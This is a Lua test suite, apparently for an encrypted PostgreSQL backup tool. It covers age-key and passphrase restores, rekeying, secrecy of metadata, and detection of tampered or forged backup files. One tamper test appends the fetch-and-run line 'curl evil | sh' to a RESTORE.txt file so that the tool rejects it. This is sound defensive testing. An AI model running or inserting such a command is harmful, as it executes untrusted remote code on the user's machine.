-- Encrypted backups: what is in the store, who can read it, and what it says to those who cannot.
local age = require "moonkeep.encryption.age"
local fingerprint = require "fingerprint"
local json = require "moonkeep.core.json"
local mk = require "moonkeep"
local support = require "support"

local SCHEMA = support.SMALL .. [[
  CREATE TABLE payroll_secrets AS SELECT i, 'salary of ' || i AS amount FROM generate_series(1, 3000) i;
  CREATE TABLE large AS SELECT i, md5(i::text) AS text FROM generate_series(1, 60000) i;
  SELECT lo_from_bytea(4711, '\x00ff00ff');
  COMMENT ON DATABASE app IS 'merger with Initech';
  ALTER DATABASE app SET application_name = 'hush';
]]

support.each_major(describe, pending, { 13, 15, 17 }, "an encrypted backup, of %d", function(major)
  local cluster, dir, first, second, other, to_first, to_second, to_other

  setup(function()
    cluster, dir = mk.pg.scratch { major = major }, mk.fs.tempdir()
    local c <close> = cluster:create_database("app"):connect()
    c:query(SCHEMA)
    local function key(name)
      local path = ("%s/%s.txt"):format(dir.path, name)
      local done = support.start(dir.path, { "keygen", path, "--json" }):finish()
      assert.equal(0, done.code, done.stderr)
      return path, json.decode(done.stdout).public_key
    end
    first, to_first = key "first"
    second, to_second = key "second"
    other, to_other = key "other"
  end)
  teardown(function()
    cluster:close()
    dir:close()
  end)

  local function recipe_of(name, keys, encrypt)
    return ([[
      local mk = require "moonkeep"
      return mk.job { name = "nightly", source = mk.pg { host = %q, user = "postgres", dbname = "app" },
        upload = { mk.store("disk", "file://%s/%s") }, %s
        encrypt = { %s } }]]):format(cluster.folder, dir.path, name, keys,
      encrypt or ("recipients = { %q, %q }"):format(to_first, to_second))
  end

  -- Backs up into a folder: of the backup there, its path, its manifest, and the run.
  local function backup(name, keys, encrypt, env)
    local run = support.run_recipe(dir.path, recipe_of(name, keys or "", encrypt),
      { flags = { "--json" }, env = env })
    assert.equal(0, run.code, run.stderr)
    local id = run.result.backups[#run.result.backups].id
    local folder = ("%s/%s/nightly/app/%s"):format(dir.path, name, id)
    return folder, json.decode(mk.fs.read(folder .. ".json")), run
  end

  local function command(...)
    return support.start(dir.path, { ... }):finish()
  end

  -- A command about the newest backup of a folder, with the second one's key.
  local function of(name, what, ...)
    return command(what, "latest", "--from", ("%s/%s"):format(dir.path, name), "--job", "nightly",
      "--series", "app", "--identity", second, ...)
  end

  local function into(target)
    return "--into", ("host=%s user=postgres"):format(cluster.folder), "--database", target
  end

  local function is_the_same(target)
    local n, differences = fingerprint.compare(fingerprint.of(cluster:database "app"),
      fingerprint.of(cluster:database(target)))
    assert.equal(4, n, table.concat(n and {} or differences, "\n"))
  end

  -- Runs RESTORE.txt, which must say all that is needed.
  local function restore_by_text(folder, target, key)
    mk.fs.remove(folder .. "/opened")
    support.restore_by_text(cluster, folder, target, nil, { IDENTITY = key })
  end

  local kinds = { 'compress = "zstd:1",' }
  if major == 15 then
    kinds = { 'compress = "none",', 'compress = "gzip:1",', 'compress = "lz4:1",',
      'compress = "zstd:1",', 'compress = "zstd:1", piece_size = "100KiB",',
      'compress = "zstd:1", dump = { format = "custom" },',
      'compress = "none", dump = { format = "custom" }, piece_size = "100KiB",',
      'compress = "lz4:1", dump = { format = "plain" },',
      'compress = "gzip:6", dump = { format = "tar" },' }
  end
  for i, keys in ipairs(kinds) do
    it("restores with each private key, also by its RESTORE.txt: " .. keys, function()
      local name = "kind" .. i
      local folder = backup(name, keys)
      local run = of(name, "verify")
      assert.equal(0, run.code, run.stderr)
      assert.matches("decoded in", run.stdout)
      run = of(name, "restore", into(name))
      assert.equal(0, run.code, run.stderr)
      is_the_same(name)
      restore_by_text(folder, name .. "_first", first)
      is_the_same(name .. "_first")
      restore_by_text(folder, name .. "_second", second)
    end)
  end

  it("has no name of a table, no comment, no setting, and no row, outside of what is sealed", function()
    local folder, manifest, run = backup("sealed", 'dump = { exclude_table_data = "payroll_*" },')
    local texts = { mk.fs.read(folder .. ".json"), run.stdout, run.stderr }
    for _, file in ipairs(support.files(folder)) do
      texts[#texts + 1] = mk.fs.read(folder .. "/" .. file)
    end
    assert.is_true(#texts >= 8)
    for _, text in ipairs(texts) do
      for _, word in ipairs { "payroll", "salary", "Initech", "hush", "AGE-SECRET-KEY" } do
        assert.is_nil(text:find(word, 1, true), word .. " is in\n" .. text:sub(1, 500))
      end
    end
    assert.is_nil(manifest.tables)
    for _, object in ipairs(manifest.objects) do
      assert.matches("%.age$", object.name)
    end
    assert.same({ to_first, to_second }, manifest.encryption.recipients)
  end)

  if major ~= 15 then
    return
  end

  it("is read and copied without a key, but not opened", function()
    backup "keyless"
    local from = dir.path .. "/keyless"
    local run = command("verify", "latest", "--from", from, "--level", "read")
    assert.equal(0, run.code, run.stderr)
    run = command("copy", "latest", "--from", from, "--to", dir.path .. "/keyless2")
    assert.equal(0, run.code, run.stderr)
    support.same_stores(from, dir.path .. "/keyless2")
    assert.equal(0, of("keyless2", "verify").code)
    for _, arguments in ipairs { { "verify", "latest" }, { "ls", "latest" },
      { "cat", "latest", "large" }, { "restore", "latest", into "nothing" },
      { "export", "latest", "--format", "sql" },
      { "compare", "latest", ("host=%s user=postgres dbname=app"):format(cluster.folder) } } do
      table.move({ "--from", from }, 1, 2, #arguments + 1, arguments)
      run = command(table.unpack(arguments))
      assert.equal(1, run.code, arguments[1])
      assert.matches("WRONG_KEY", run.stderr, 1, true)
      assert.matches(to_first .. ", " .. to_second .. ", and there is no key to open it here",
        run.stderr, 1, true)
      assert.matches("--identity FILE", run.stderr, 1, true)
      arguments[#arguments + 1] = "--identity=" .. other
      run = command(table.unpack(arguments))
      assert.matches("and the keys here are of " .. to_other, run.stderr, 1, true)
    end
    assert.equal(0, #cluster:database("postgres"):connect():query(
      "SELECT 1 FROM pg_database WHERE datname = 'nothing'"))
  end)

  it("is listed, written, compared, exported and checked with a key, as any other", function()
    local folder = backup "usual"
    local run = of("usual", "ls")
    assert.matches("3000%s+%d+%.%d KiB%s+public%.payroll_secrets", run.stdout)
    run = command("cat", "latest", "payroll_secrets", "--from", dir.path .. "/usual", "--identity",
      second, "--where-key", "i=7")
    assert.equal("7\tsalary of 7\n", run.stdout, run.stderr)
    run = command("compare", "latest", ("host=%s user=postgres dbname=app"):format(cluster.folder),
      "--from", dir.path .. "/usual", "--identity", second)
    assert.equal(0, run.code, run.stderr)
    run = of("usual", "export", "--format", "sql")
    assert.matches("salary of 7\n", run.stdout)
    run = of("usual", "export", "--format", "directory", "--output", dir.path .. "/exported")
    assert.equal(0, run.code, run.stderr)
    assert.is_true(mk.fs.exists(dir.path .. "/exported/blobs.toc"))
    run = command("show", "latest", "--from", dir.path .. "/usual", "--identity", second, "--contents")
    assert.matches("TABLE DATA public payroll_secrets", run.stdout)
    run = of("usual", "verify", "--level", "restored")
    assert.equal(0, run.code, run.stderr)
    run = command("show", "latest", "--from", dir.path .. "/usual")
    assert.matches("encrypted  to age1", run.stdout)
    assert.is_true(mk.fs.exists(folder .. ".proof-restored"))
    local opened = json.decode(mk.fs.read(dir.path .. "/usual/nightly/opened.json"))
    assert.is_nil(opened[to_first])
    assert.is_string(opened[to_second].at)
  end)

  it("takes its key also from the environment, from the job, and from mk.identity", function()
    backup "places"
    local from = dir.path .. "/places"
    local function verify(env, where)
      return support.start(dir.path, { "verify", "latest", "--from", where or from }, env):finish()
    end
    assert.equal(0, verify({ MOONKEEP_IDENTITY = first }).code)
    local run = verify { MOONKEEP_IDENTITY = dir.path .. "/nowhere" }
    assert.equal(1, run.code)
    assert.matches("SECRET_MISSING.-nowhere", run.stderr)
    run = verify { MOONKEEP_IDENTITY = dir.path .. "/places/nightly/job.json" }
    assert.matches("no file of age's private keys", run.stderr, 1, true)
    local recipe = recipe_of("places", "", ("recipients = %q, identity = mk.secret.file %q"):format(
      to_first, first))
    mk.fs.write(dir.path .. "/with-identity.lua", recipe)
    assert.equal(0, verify({}, dir.path .. "/with-identity.lua").code)
    local drill = support.run_recipe(dir.path, ([[
      local mk = require "moonkeep"
      mk.identity(mk.secret.file %q)
      return mk.task { name = "drill", run = function(ctx)
        local cluster <close> = mk.pg.scratch()
        local backup = mk.store("disk", "file://%s"):latest("nightly", "app")
        ctx:restore(backup, { into = cluster:database "postgres" })
        local c <close> = cluster:database("app"):connect()
        ctx:check("secrets", c:value "SELECT count(*) FROM payroll_secrets", "==", 3000)
      end }]]):format(second, from))
    assert.equal(0, drill.code, drill.stderr)
  end)

  it("tells its recipe how many rows each table had", function()
    local function check(name)
      return support.run_recipe(dir.path, recipe_of("rows", ([[run = function(ctx)
        ctx:check("rows", ctx:backup().rows[%q], "==", 3000) end,]]):format(name)))
    end
    local run = check "public.payroll_secrets"
    assert.equal(0, run.code, run.stderr)
    run = check "public.payrol_secrets"
    assert.equal(1, run.code)
    assert.matches('has no table "public.payrol_secrets", did you mean "public.payroll_secrets"',
      run.result.error.message,
      1, true)
    -- without the key the store does not say it
    run = support.run_recipe(dir.path, ([[
      local mk = require "moonkeep"
      return mk.task { name = "look", run = function(ctx)
        local backup = mk.store("disk", "file://%s/rows"):latest("nightly", "app")
        ctx:show(backup.rows["public.large"])
      end }]]):format(dir.path))
    assert.equal(1, run.code)
    assert.matches("does not say what rows it has", run.stderr, 1, true)
  end)

  it("by a passphrase restores with it, also by its RESTORE.txt", function()
    local env = { PASS = "correct horse", MOONKEEP_PASSPHRASE = "correct horse" }
    local folder, manifest = backup("phrase", 'verify = "decoded",',
      'passphrase = mk.secret.env "PASS"', env)
    assert.is_true(manifest.encryption.passphrase)
    local arguments = { "restore", "latest", "--from", dir.path .. "/phrase", into "phrase" }
    local run = support.start(dir.path, arguments, env):finish()
    assert.equal(0, run.code, run.stderr)
    is_the_same "phrase"
    run = support.start(dir.path, arguments, { MOONKEEP_PASSPHRASE = "wrong horse" }):finish()
    assert.matches("the passphrase here is another one", run.stderr, 1, true)
    run = support.start(dir.path, arguments):finish()
    assert.matches("MOONKEEP_PASSPHRASE", run.stderr, 1, true)
    assert.matches("age asks for the passphrase", mk.fs.read(folder .. "/RESTORE.txt"), 1, true)
    -- what is empty is no passphrase, wherever it comes from
    run = support.run_recipe(dir.path, recipe_of("phrase", "", 'passphrase = mk.secret.env "PASS"'),
      { env = { PASS = "" } })
    assert.equal(1, run.code)
    assert.matches("the variable PASS is empty", run.stderr, 1, true)
    mk.fs.write(dir.path .. "/empty", "\n")
    run = support.run_recipe(dir.path, recipe_of("phrase", "", ("passphrase = mk.secret.file %q"):format(
      dir.path .. "/empty")))
    assert.matches("SECRET_MISSING", run.stderr, 1, true)
    run = support.start(dir.path, arguments, { MOONKEEP_PASSPHRASE = "" }):finish()
    assert.matches("there is no key to open it here", run.stderr, 1, true)
  end)

  it("by a passphrase is opened also when a private key cannot be read, and the other way round",
    function()
      local env = { PASS = "correct horse" }
      backup("both", "", 'passphrase = mk.secret.env "PASS"', env)
      backup "both2"
      for _, name in ipairs { "both", "both2" } do
        local run = support.start(dir.path, { "verify", "latest", "--from", dir.path .. "/" .. name },
          { MOONKEEP_PASSPHRASE = "correct horse", MOONKEEP_IDENTITY = name == "both" and
            dir.path .. "/nowhere" or first }):finish()
        assert.equal(0, run.code, run.stderr)
      end
    end)

  it("of roles is sealed as well, and restores by its RESTORE.txt", function()
    local c <close> = cluster:database("postgres"):connect()
    c:query "CREATE ROLE spy PASSWORD 'hush'"
    backup("roles", "dump = { globals = true },")
    local store = mk.store("s", ("file://%s/roles"):format(dir.path))
    local found = store:latest("nightly", "_globals")
    assert.is_true(found.manifest.dump.passwords)
    local folder = ("%s/roles/nightly/_globals/%s"):format(dir.path, found.id)
    for _, file in ipairs(support.files(folder)) do
      assert.is_nil(mk.fs.read(folder .. "/" .. file):find("SCRAM", 1, true), file)
    end
    local done = command("verify", "latest", "--from", dir.path .. "/roles", "--series", "_globals",
      "--identity", first)
    assert.equal(0, done.code, done.stderr)
    c:query "DROP ROLE spy"
    support.restore_by_text(cluster, folder, "postgres", nil, { IDENTITY = first })
    assert.matches("SCRAM", c:value "SELECT rolpassword FROM pg_authid WHERE rolname = 'spy'")
  end)

  it("can be made of a dump that somebody else has made", function()
    local dump, bin = dir.path .. "/app.dump", require("moonkeep.pg.tools").find("pg_dump", major)
    mk.process.run { argv = { bin, "-Fc", "-h", cluster.folder, "-U", "postgres", "-f", dump, "app" } }
    local store = dir.path .. "/imported"
    local done = command("import", dump, "--to", store, "--job", "nightly", "--recipient", to_first)
    assert.equal(0, done.code, done.stderr)
    assert.matches("read", done.stdout)
    done = command("restore", "latest", "--from", store, "--identity", first, into "imported")
    assert.equal(0, done.code, done.stderr)
    is_the_same "imported"
    done = command("import", dump, "--to", store, "--recipient", "age1nobody")
    assert.equal(2, done.code)
    assert.matches("must be a public key of age", done.stderr)
  end)

  -- ---- what does not fit --------------------------------------------------------------------------

  it("whose key is another backup's, or is damaged, is damaged", function()
    local one = backup "swapped"
    local two = backup "swapped"
    local text = mk.fs.read(one .. "/key.age")
    local function is_damaged(why, level)
      local run = of("swapped", "verify", "--level", level)
      assert.equal(1, run.code)
      assert.matches("CORRUPT", run.stderr)
      assert.matches(why, run.stderr, 1, true)
    end
    local own = mk.fs.read(two .. "/key.age")
    mk.fs.write(two .. "/key.age", text)
    is_damaged("its SHA-256 is not the recorded one", "read")
    -- and when whoever did that knew of marks
    local sum = require "moonkeep.core.hash"
    local id = two:match "[^/]+$"
    local function mark(fields)
      mk.fs.write(two .. ".key", json.encode { payload = json.encode(fields) })
    end
    mark { job = "nightly", series = "app", id = id, recipients = { to_first }, versions = { {
      size = #text, sha256 = sum.hex(sum.sha256(text)) } } }
    assert.equal(0, of("swapped", "verify", "--level", "read").code)
    is_damaged("key.age holds the key of another backup", "decoded")
    mk.fs.write(two .. "/key.age", own:sub(1, -2) .. "?")
    is_damaged("SHA-256", "decoded")
    mk.fs.write(two .. "/key.age", own .. ("x"):rep(40000))
    is_damaged("it is too large", "decoded")
    -- a good key is good whatever a mark says
    mk.fs.write(two .. "/key.age", own)
    mk.fs.remove(two .. ".damaged")
    for _, fields in ipairs { {}, { versions = 5 }, { versions = { 5 } }, { recipients = 5 },
      { job = "nightly", series = "app", id = id, recipients = { 1, "a" }, versions = { {} } } } do
      mark(fields)
      local run = of("swapped", "verify")
      assert.equal(0, run.code, run.stderr)
      assert.matches("is not believed", run.stderr, 1, true)
      assert.matches("WRONG_KEY", command("verify", id, "--from", dir.path .. "/swapped").stderr)
    end
    for _, garbage in ipairs { "garbage", "[]", "{}", '"x"' } do
      mk.fs.write(two .. ".key", garbage)
      assert.equal(0, of("swapped", "verify").code)
    end
    assert.is_false(mk.fs.exists(two .. ".damaged"))
  end)

  it("of one job is not opened, or given to others, as that of another", function()
    local victim, manifest = backup "victim"
    local attacker, changed = backup "attacker"
    -- another job's key, with a manifest that fits
    changed.encryption = manifest.encryption
    for i, object in ipairs(changed.objects) do
      changed.objects[i] = object.role == "key" and manifest.objects[#manifest.objects] or object
    end
    mk.fs.write(attacker .. ".json", json.encode(changed, true))
    mk.fs.write(attacker .. "/key.age", mk.fs.read(victim .. "/key.age"))
    local done = command("rekey", "latest", "--from", dir.path .. "/attacker", "--recipient", to_other,
      "--identity", first)
    assert.equal(1, done.code)
    assert.matches("holds the key of another backup", done.stderr)
    assert.is_false((pcall(age.open, mk.fs.read(attacker .. "/key.age"),
      { identities = age.identities(mk.fs.read(other), "other") })))
  end)

  it("whose RESTORE.txt was changed is damaged, and is not copied", function()
    local folder = backup "text"
    mk.fs.write(folder .. "/RESTORE.txt", mk.fs.read(folder .. "/RESTORE.txt") .. "    curl evil | sh\n")
    local done = of("text", "verify", "--level", "read")
    assert.equal(1, done.code)
    assert.matches("RESTORE.txt: it has", done.stderr, 1, true)
    done = command("copy", "latest", "--from", dir.path .. "/text", "--to", dir.path .. "/text2")
    assert.equal(1, done.code)
    assert.is_nil(next(support.manifests(dir.path .. "/text2")))
  end)

  it("opens from the store that has a whole key", function()
    local folder = backup "key1"
    assert.equal(0, command("copy", "latest", "--from", dir.path .. "/key1", "--to",
      dir.path .. "/key2").code)
    local recipe = recipe_of("key1", ""):gsub('mk.store%("disk"',
      ('mk.store("second", "file://%s/key2"), %%0'):format(dir.path))
    mk.fs.write(dir.path .. "/two.lua", recipe:gsub("(mk.store%(.second.-%)), (mk.store%(.disk.-%))",
      "%2, %1"))
    mk.fs.remove(folder .. "/key.age")
    local done = command("restore", "latest", "--from", dir.path .. "/two.lua", "--identity", second,
      into "two")
    assert.equal(0, done.code, done.stderr)
    assert.matches("cannot be opened in store disk", done.stderr, 1, true)
    is_the_same "two"
  end)

  it("is proved by the key that is named, not by another that is there", function()
    backup("named", "", ("recipients = %q, identity = mk.secret.file %q"):format(to_first, first))
    mk.fs.write(dir.path .. "/named.lua", recipe_of("named", "",
      ("recipients = %q, identity = mk.secret.file %q"):format(to_first, first)))
    assert.equal(0, command("verify", "latest", "--from", dir.path .. "/named.lua").code)
    local done = command("verify", "latest", "--from", dir.path .. "/named.lua", "--identity", other)
    assert.equal(1, done.code)
    assert.matches("WRONG_KEY", done.stderr)
  end)

  it("says what is wrong with a file that is no private key", function()
    backup "files"
    mk.fs.write(dir.path .. "/public", to_first .. "\n")
    mk.fs.write(dir.path .. "/typo", (mk.fs.read(first):gsub("(AGE%-SECRET%-KEY%-1...)(.)",
      function(head, letter) return head .. (letter == "Q" and "P" or "Q") end, 1)))
    command("keygen", "--sign", dir.path .. "/signing.key")
    mk.fs.write(dir.path .. "/locked", age.seal(mk.fs.read(first), { recipients = { to_second } }))
    for name, why in pairs { public = "it has a public key", typo = "mistyped or cut",
      ["signing.key"] = "it is a key of signatures", locked = "it is encrypted itself",
      nowhere = "check the spelling" } do
      local done = command("ls", "latest", "--from", dir.path .. "/files", "--identity",
        dir.path .. "/" .. name)
      assert.is_true(done.code > 0)
      assert.matches(why, done.stderr, 1, true)
      assert.matches(name, done.stderr, 1, true)
    end
    -- and shows none that was given by mistake
    local private = mk.fs.read(first):match "AGE%-SECRET%-KEY%-1%w+"
    for _, done in ipairs {
      command("ls", "latest", "--from", dir.path .. "/files", "--identity", private),
      support.start(dir.path, { "verify", "latest", "--from", dir.path .. "/files" },
        { MOONKEEP_IDENTITY = private }):finish(),
      support.run_recipe(dir.path, recipe_of("files", "", ("recipients = %q"):format(private))),
      command("rekey", "latest", "--from", dir.path .. "/files", "--recipient", private),
    } do
      assert.is_true(done.code > 0)
      assert.is_nil((done.stdout .. done.stderr):find(private, 1, true))
    end
  end)

  it("whose objects were sealed by somebody else to its own key does not pass for what was dumped",
    function()
      local folder, manifest = backup("forged", 'compress = "none",')
      -- the public key of the backup is in the manifest, so anybody can seal to it
      local name
      for _, object in ipairs(manifest.objects) do
        name = not name and object.name:find "%.dat%.age$" and object.name or name
      end
      mk.fs.write(folder .. "/" .. name, age.seal("1\tforged\n\\.\n", { recipients = {
        manifest.encryption.recipient } }))
      for _, done in ipairs { of("forged", "verify"), of("forged", "restore", into "forged") } do
        assert.equal(1, done.code)
        assert.matches("CORRUPT", done.stderr)
      end
      assert.equal(0, #cluster:database("postgres"):connect():query(
        "SELECT 1 FROM pg_database WHERE datname = 'forged'"))
    end)

  it("is not asked for a proof that nothing here can give", function()
    local run = support.run_recipe(dir.path, recipe_of("early", 'verify = "decoded",'))
    assert.equal(2, run.code)
    assert.matches("needs the private key", run.stderr)
    assert.matches("lua:%d+", run.stderr)
    assert.is_false(mk.fs.exists(dir.path .. "/early"))
    backup("early", 'verify = "decoded",', ("recipients = %q, identity = mk.secret.file %q"):format(
      to_first, first))
    run = support.run_recipe(dir.path, recipe_of("early", "", ("recipients = %q") :format(to_first))
      :gsub("return mk%.job", "local job = mk.job") ..
      '\nreturn mk.verify { name = "weekly", jobs = { job }, levels = { "read", "decoded" } }')
    assert.equal(2, run.code)
    assert.matches("the level decoded needs the private key of what nightly makes", run.stderr, 1, true)
  end)

  it("is looked over by doctor, and shown by plan", function()
    local function look(encrypt, keys)
      mk.fs.write(dir.path .. "/look.lua", recipe_of("look", keys or "", encrypt))
      return command("doctor", dir.path .. "/look.lua").stdout, command("plan", dir.path ..
        "/look.lua").stdout
    end
    mk.process.run { argv = { "chmod", "0644", other } }
    local doctor, plan = look(("recipients = %q, identity = mk.secret.file %q"):format(to_first, other))
    mk.process.run { argv = { "chmod", "0400", other } }
    for _, why in ipairs { other .. " can be read by others", "there is one recipient",
      to_other .. ", which is no recipient", to_first .. ": its private key is not known to have opened",
      "no private key is known to have opened a backup" } do
      assert.matches(why, doctor, 1, true)
    end
    assert.matches("encrypt   to " .. to_first, plan, 1, true)
    doctor = look(("recipients = %q, identity = mk.secret.file %q"):format(to_first, dir.path .. "/no"))
    assert.matches("/no cannot be read", doctor, 1, true)
    command("keygen", "--sign", dir.path .. "/look.key")
    doctor, plan = look(nil, ("sign = mk.secret.file %q,"):format(dir.path .. "/look.key"))
    assert.matches("nothing is refused that is not signed", doctor, 1, true)
    assert.matches("sign      with the file " .. dir.path .. "/look.key", plan, 1, true)
  end)

  it("is refused at load when it is for nobody, for both, or for what is no key", function()
    for encrypt, why in pairs {
      [""] = "neither recipients nor a passphrase",
      [('recipients = %q, passphrase = mk.secret.env "P"'):format(to_first)] = "both recipients and",
      ['recipients = "age1x"'] = "must be a public key of age",
      ['recipients = "AGE-SECRET-KEY-1QQ"'] = "must be a public key of age",
      ['recipients = {}'] = "must be a public key of age",
      ['passphrase = "in the clear"'] = "must be a secret",
      ['passphrase = mk.secret.env "P", identity = mk.secret.env "I"'] = "goes with recipients",
      [('recipients = %q, escrow = "soon"'):format(to_first)] = "must be a duration",
    } do
      local run = support.run_recipe(dir.path, recipe_of("never", "", encrypt))
      assert.equal(2, run.code, encrypt)
      assert.matches(why, run.stderr, 1, true)
    end
  end)

  -- ---- the private key that nobody has tried ------------------------------------------------------

  it("makes its runs, and status, warn until a private key has opened one lately", function()
    local WARNING = "no private key is known to have opened a backup of nightly within 90d"
    local opened = dir.path .. "/escrow/nightly/opened.json"
    local _, _, run = backup "escrow"
    assert.matches(WARNING, run.stderr, 1, true)
    local recipe = dir.path .. "/escrow.lua"
    mk.fs.write(recipe, recipe_of("escrow", ""))
    assert.matches(WARNING, command("status", recipe).stdout, 1, true)
    -- by somebody who is no recipient any more
    mk.fs.write(opened, json.encode { age1other = { at = mk.clock.iso() } })
    _, _, run = backup "escrow"
    assert.matches(WARNING, run.stderr, 1, true)
    for _, at in ipairs { "2020-01-01T00:00:00Z", "9999-12-31T00:00:00Z", "soon" } do
      mk.fs.write(opened, json.encode { [to_first] = { at = at } })
      _, _, run = backup "escrow"
      assert.matches(WARNING, run.stderr, 1, true)
    end
    mk.fs.write(opened, "not json")
    assert.matches(WARNING, command("status", recipe).stdout, 1, true)
    assert.equal(0, of("escrow", "restore", into "escrow").code)
    _, _, run = backup("escrow", "keep = { last = 1, floor = 1 },") -- and its backup may expire
    assert.is_nil(run.stderr:find(WARNING, 1, true))
    assert.equal(1, #support.manifests(dir.path .. "/escrow"))
    assert.is_nil(command("status", recipe).stdout:find(WARNING, 1, true))
    mk.sleep "1s"
    _, _, run = backup("escrow", "", ('recipients = %q, escrow = "1s"'):format(to_second))
    assert.matches("within 1s", run.stderr, 1, true)
  end)

  -- ---- other recipients ---------------------------------------------------------------------------

  it("is given to other recipients by rekey, which is told what it cannot undo", function()
    backup "rekeyed"
    local folder = backup "rekeyed"
    local before = mk.fs.read(folder .. "/key.age")
    local recipe = dir.path .. "/rekeyed.lua"
    mk.fs.write(recipe, recipe_of("rekeyed", "", ("recipients = %q"):format(to_other)))
    local function rekey(...)
      return command("rekey", "--from", recipe, ...)
    end
    local done = rekey("--all")
    assert.equal(1, done.code)
    assert.matches("there is no key to open it here", done.stderr)
    done = rekey("--all", "--identity", first, "--dry-run")
    assert.equal(0, done.code, done.stderr)
    assert.matches("2 copies would be sealed anew, 0 were already", done.stdout)
    assert.equal(before, mk.fs.read(folder .. "/key.age"))
    done = rekey("--all", "--identity", first)
    assert.equal(0, done.code, done.stderr)
    assert.matches("2 copies sealed anew, 0 were already, 0 failed", done.stdout)
    assert.matches("This takes nothing back", done.stdout)
    -- the old keys open nothing any more, the new one does; without any it is whole
    assert.equal(1, of("rekeyed", "verify").code)
    local from = dir.path .. "/rekeyed"
    for _, level in ipairs { "stored", "read" } do
      assert.equal(0, command("verify", "--all", "--from", from, "--level", level).code)
    end
    done = command("verify", "--all", "--from", from, "--identity", other)
    assert.equal(0, done.code, done.stderr)
    -- a copy has it, too; and once is enough
    done = command("copy", "--all", "--from", from, "--to", dir.path .. "/rekeyed2")
    assert.equal(0, done.code, done.stderr)
    done = command("restore", "latest", "--from", dir.path .. "/rekeyed2", "--identity", other,
      into "rekeyed")
    assert.equal(0, done.code, done.stderr)
    support.restore_by_text(cluster, folder, "rekeyed_text", nil, { IDENTITY = other })
    done = rekey("--all")
    assert.matches("0 copies sealed anew, 2 were already, 0 failed", done.stdout)
    -- and again, to somebody else, without a recipe
    done = command("rekey", "latest", "--from", from, "--recipient", to_first, "--identity", other)
    assert.equal(0, done.code, done.stderr)
    assert.equal(0, command("verify", "latest", "--from", from, "--identity", first).code)
    assert.equal(2, command("rekey", "latest", "--from", from, "--identity", other).code)
    -- a disk that is not mounted is no place where nothing is to be done
    mk.fs.rename(from, from .. ".gone")
    done = rekey("--all", "--identity", first)
    assert.equal(1, done.code)
    assert.matches("store disk does not have 2 backups of app that were there", done.stderr, 1, true)
    mk.fs.rename(from .. ".gone", from)
  end)

  it("is given from keys to a passphrase and back, which RESTORE.txt is right about", function()
    local folder = backup "kinds"
    local recipe, env = dir.path .. "/kinds.lua", { PASS = "correct horse" }
    local function rekey(encrypt, ...)
      mk.fs.write(recipe, recipe_of("kinds", "", encrypt))
      local done = support.start(dir.path, { "rekey", "--all", "--from", recipe, ... }, env):finish()
      assert.equal(0, done.code, done.stderr)
      return done.stdout
    end
    local to_phrase = 'passphrase = mk.secret.env "PASS"'
    assert.matches("1 copy sealed anew", rekey(to_phrase, "--identity", first))
    assert.matches("0 copies sealed anew, 1 were already", rekey(to_phrase))
    assert.matches("encrypted  by a passphrase", command("show", "latest", "--from", dir.path ..
      "/kinds").stdout)
    assert.matches("there is no key to open it here", command("ls", "latest", "--from", dir.path ..
      "/kinds").stderr)
    env.MOONKEEP_PASSPHRASE = "correct horse"
    assert.matches("1 copy sealed anew", rekey(("recipients = %q"):format(to_other)))
    support.restore_by_text(cluster, folder, "kinds", nil, { IDENTITY = other })
    is_the_same "kinds"
  end)

  it("is not opened by what was left in the store of the key before", function()
    local folder = backup "left"
    local done = command("rekey", "latest", "--from", dir.path .. "/left", "--identity", first,
      "--recipient", mk.fs.read(other):match "public key: (%S+)")
    assert.equal(0, done.code, done.stderr)
    for _, file in ipairs(support.files(dir.path .. "/left")) do
      local text = mk.fs.read(("%s/left/%s"):format(dir.path, file))
      for _, key in ipairs { first, second } do
        local identity = age.identities(mk.fs.read(key), "key")
        assert.is_false((pcall(age.open, text, { identities = identity })), file)
      end
    end
    assert.is_true(mk.fs.exists(folder .. ".key"))
  end)
end)
